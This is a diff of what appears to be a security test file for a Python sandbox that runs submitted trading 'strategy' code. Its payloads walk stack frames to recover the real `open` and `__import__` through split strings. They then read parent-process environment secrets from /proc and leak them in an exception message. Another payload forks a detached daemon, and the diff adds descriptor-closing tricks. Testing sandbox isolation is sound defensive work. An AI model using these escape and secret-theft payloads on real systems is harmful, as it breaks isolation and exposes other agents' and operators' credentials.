@@ -42,7 +42,7 @@ OTHER_KEY = "sk-other-agent-7Hq2vX9pL4mN8rT1wY6z"  # the harmless agent's key: c
 UNNAMED = "daemon-only-secret-Zk3Jp8Qw5Rt2Yv7X"  # in the daemon's environment, named by no config
 
 #: Finds the bottom frame of the stack from inside a running generator and takes the real
-#: `open`, `__import__` and module globals from it (the issue's attack).
+#: `open`, `__import__` and module globals from it (the issue's attack), then frees descriptor 0.
 WALK = """
 def bottom():
     box = []
@@ -61,7 +61,9 @@ def bottom():
 def tools():
     frame = bottom()
     found = frame.f_builtins
-    return found["op" + "en"], found["_" + "_import_" + "_"], frame.f_globals
+    imp = found["_" + "_import_" + "_"]
+    imp("i" + "o").FileIO(0).close()  # frees descriptor 0 under the descriptor limit
+    return found["op" + "en"], imp, frame.f_globals
 """
 PAYLOADS = {
     "environ": WALK
@@ -71,7 +73,6 @@ def strategy(bars):
     opener, imp, scope = tools()
     parent = str(imp("o" + "s").getppid())
     text = opener("/proc/" + parent + "/environ").read()
-    text += opener("/proc/1/environ").read()
     raise ValueError(text[::-1])
 """,
     "ledger": WALK
@@ -102,6 +103,8 @@ def strategy(bars):
     child = libc["fo" + "rk"]()
     if child == 0:
         libc.setsid()
+        for descriptor in (1, 2):
+            libc.close(descriptor)
         exe = imp("s" + "ys").executable.encode()
         sleep = b"import time; time.sleep(120)"
         line = (types.c_char_p * 5)(exe, b"-c", sleep, MARKER.encode(), None)
@@ -156,7 +159,11 @@ HOSTILE_COMMAND = textwrap.dedent(
             found[name] = "refused: " + type(exc).__name__
 
     def names(pid):
-        return [line.split("=")[0] for line in open(f"/proc/{{pid}}/environ").read().split(chr(0))]
+        try:
+            text = open(f"/proc/{{pid}}/environ").read()
+        except OSError:
+            return []
+        return [line.split("=")[0] for line in text.split(chr(0))]
 
     found["ppid"] = os.getppid()
     attempt("parent environ", lambda: open(f"/proc/{{os.getppid()}}/environ").read())
